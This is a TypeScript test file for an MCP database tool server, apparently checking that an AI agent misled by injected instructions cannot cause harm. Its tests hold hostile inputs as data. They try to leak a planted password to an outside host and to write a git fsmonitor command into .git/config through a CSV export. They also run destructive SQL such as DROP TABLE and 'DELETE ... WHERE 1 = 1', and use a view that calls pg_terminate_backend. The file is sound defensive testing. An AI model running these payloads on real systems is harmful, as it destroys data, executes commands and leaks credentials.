import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { Client } from '@modelcontextprotocol/client';
import { Client as Postgres } from 'pg';
import { afterEach, describe, expect, test } from 'vitest';
import { sharedPostgres } from '../../engines/postgres.ts';
import { startAgent } from '../support/agent.ts';
import { afterwards, endEverything, temporaryFolder } from '../support/cleanup.ts';
import { streamableTransport } from '../support/clients.ts';
import { runMolehill, startUp } from '../support/molehill.ts';
import { startStranger } from '../support/stranger.ts';

afterEach(endEverything);

const SECRET = 'planted-7f3a91c2';

describe('a model that was misled sends no secret to a host of its choice', () => {
  const plain = { name: 'far', type: 'postgres', host: '127.0.0.1', user: 'u', database: 'd' };
  const reference = `\${env:PW}`;

  test.each<[string, (port: number) => [string, object][]]>([
    [
      'encoded in an address',
      (port) => [
        ['add', { name: 'far', dsn: `postgres://u:${encodeURIComponent(reference)}@127.0.0.1:${port}/d` }],
      ],
    ],
    [
      'set by an update',
      (port) => [
        ['add', { ...plain, port }],
        ['update', { name: 'far', password: reference }],
      ],
    ],
    [
      'encoded in a read-only address',
      (port) => {
        const dsn = `postgres://u:${encodeURIComponent(reference)}@127.0.0.1:${port}/d`;
        return [['add', { name: 'far', dsn, readonly: true }]];
      },
    ],
    [
      'set by an update of a read-only connection',
      (port) => [
        ['add', { ...plain, port, readonly: true }],
        ['update', { name: 'far', password: reference }],
      ],
    ],
    [
      'on a read-only connection',
      (port) => [['add', { ...plain, port, readonly: true, password: reference }]],
    ],
  ])('%s', async (_, steps) => {
    const [stranger, workspace] = [await startStranger(), temporaryFolder()];
    const agent = await startAgent(workspace, { env: { PW: SECRET } });
    for (const [step, input] of steps(stranger.port))
      await agent.call(`sql__${step}_connection`, { ...input });
    await agent.call('sql__test_connection', { name: 'far' });
    expect(stranger.received()).not.toContain(SECRET);
  });

  test('and does not switch off the encryption under a stored password', async () => {
    const [stranger, workspace, home] = [await startStranger(), temporaryFolder(), temporaryFolder()];
    const dsn = `postgres://u@127.0.0.1:${stranger.port}/d?sslmode=require`;
    const added = await runMolehill(['connections', 'add', 'far', '--dsn', dsn, '--password-stdin'], {
      home,
      input: SECRET,
    });
    expect(added.code, added.stderr).toBe(0);
    const agent = await startAgent(workspace, { home });
    expect(await agent.call('sql__list_connections')).toContain('far');
    await agent.call('sql__test_connection', { name: 'far' });
    await agent.call('sql__update_connection', { name: 'far', tls: { mode: 'disable' } });
    await agent.call('sql__test_connection', { name: 'far' });
    expect(stranger.received()).not.toContain(SECRET);
  });
});

describe('an export becomes no file that another tool executes', () => {
  /** An agent whose person agrees to everything. */
  async function agreeing(workspace: string) {
    writeFileSync(join(workspace, 'empty.db'), '');
    const connections = [{ name: 'db', type: 'sqlite', file: join(workspace, 'empty.db') }];
    const env = { DBMOLE_CONNECTIONS: JSON.stringify(connections) };
    const server = await startUp(['--port', '0', '--workspace', workspace], { env });
    const client = new Client(
      { name: 'agreeing', version: '1.0.0' },
      { capabilities: { elicitation: {} }, versionNegotiation: { mode: 'legacy' } },
    );
    client.setRequestHandler('elicitation/create', async () => ({
      action: 'accept',
      content: { confirm: true },
    }));
    afterwards(() => client.close());
    await client.connect(streamableTransport(server));
    return (path: string, sql: string, overwrite = false) =>
      client.callTool({
        name: 'sql__export_query',
        arguments: { connection: 'db', sql, path, format: 'csv', overwrite },
      });
  }

  test('git runs no command that was exported into its configuration', async () => {
    const workspace = realpathSync(temporaryFolder());
    execFileSync('git', ['init', '-q', workspace]);
    const ran = join(workspace, 'ran');
    const config = join(workspace, '.git', 'config');
    const before = readFileSync(config, 'utf8');
    const exported = await agreeing(workspace);
    await exported(
      '.git/config',
      `SELECT 1 AS "[core]" UNION ALL SELECT 'fsmonitor = touch ${ran};false'`,
      true,
    );
    expect(readFileSync(config, 'utf8')).toBe(before);
  });

  test.each([
    '.vscode/tasks.json',
    'node_modules/x/index.js',
    'Makefile',
    'run.sh',
    '.envrc',
    'package.json',
  ])('%s', async (path) => {
    const workspace = realpathSync(temporaryFolder());
    mkdirSync(join(workspace, dirname(path)), { recursive: true });
    const exported = await agreeing(workspace);
    await exported(path, 'SELECT 1 AS a');
    expect(existsSync(join(workspace, path))).toBe(false);
    await exported('data.csv', 'SELECT 1 AS a');
    expect(existsSync(join(workspace, 'data.csv'))).toBe(true);
  });
});

test('a model that was misled drops no table of another project unasked', async () => {
  const [workspace, other, home] = [temporaryFolder(), realpathSync(temporaryFolder()), temporaryFolder()];
  const database = new DatabaseSync(join(other, 'shop.db'));
  afterwards(() => database.close());
  database.exec('CREATE TABLE customer (id INTEGER)');
  writeFileSync(join(other, '.env'), 'DATABASE_URL=sqlite:shop.db\n');
  await startUp(['--port', '0', '--workspace', other], { home });
  const agent = await startAgent(workspace, { home });
  for (const sql of ['INSERT INTO customer VALUES (1)', 'DROP TABLE customer'])
    await agent.call('project__run-query', { projectRoot: other, query: sql });
  expect(database.prepare('SELECT count(*) AS n FROM customer').get()).toEqual({ n: 0 });
});

test.each([
  'DELETE FROM customer WHERE 1 = 1',
  'UPDATE customer SET id = 0 WHERE true',
  'ALTER TABLE customer DROP id',
])('a model that was misled does not destroy all rows unasked: %s', async (sql) => {
  const workspace = temporaryFolder();
  const file = join(workspace, 'shop.db');
  const database = new DatabaseSync(file);
  afterwards(() => database.close());
  database.exec('CREATE TABLE customer (name TEXT, id INTEGER); INSERT INTO customer VALUES (NULL, 7)');
  const env = { DBMOLE_CONNECTIONS: JSON.stringify([{ name: 'db', type: 'sqlite', file, readonly: false }]) };
  const agent = await startAgent(workspace, { env });
  await agent.call('sql__query', { connection: 'db', sql });
  expect(database.prepare('SELECT id FROM customer').all()).toEqual([{ id: 7 }]);
});

const address = await sharedPostgres();

describe.skipIf(!address)('a view whose function ends sessions, on a read-only connection', () => {
  test.each([
    ['sample_rows', { table: 'ending' }],
    ['profile_column', { table: 'ending', column: 'a' }],
    ['query', { sql: 'SELECT * FROM ending' }],
    ['export_query', { sql: 'SELECT * FROM ending', path: 'x.csv' }],
  ])('%s ends none', async (tool, input) => {
    if (!address) throw new Error('there is no server');
    const { admin, victim, database, drop } = await scratch(address);
    const { rows } = await victim.query('SELECT pg_backend_pid() AS pid');
    await admin.query(`CREATE VIEW ending AS SELECT pg_terminate_backend(${rows[0]?.pid}) AS a`);
    const { host, port, user, password } = address;
    const server = { type: 'postgres', host, port, user, password, database };
    const env = { DBMOLE_CONNECTIONS: JSON.stringify([{ ...server, name: 'db', readonly: true }]) };
    const agent = await startAgent(temporaryFolder(), { env });
    await agent.call(`sql__${tool}`, { connection: 'db', ...input });
    expect((await victim.query('SELECT 1 AS alive')).rows).toEqual([{ alive: 1 }]);
    await drop();
  });

  type Address = NonNullable<typeof address>;

  async function scratch({ host, port, user, password }: Address) {
    const database = `attack_${process.pid}_${Math.random().toString(36).slice(2)}`;
    const open = async (name: string) => {
      const client = new Postgres({ host, port, user, password, database: name });
      client.on('error', () => {});
      await client.connect();
      afterwards(() => client.end());
      return client;
    };
    const root = await open('postgres');
    await root.query(`CREATE DATABASE ${database}`);
    const drop = async () => {
      await root.query(`DROP DATABASE ${database} WITH (FORCE)`);
    };
    return { admin: await open(database), victim: await open(database), database, drop };
  }
});
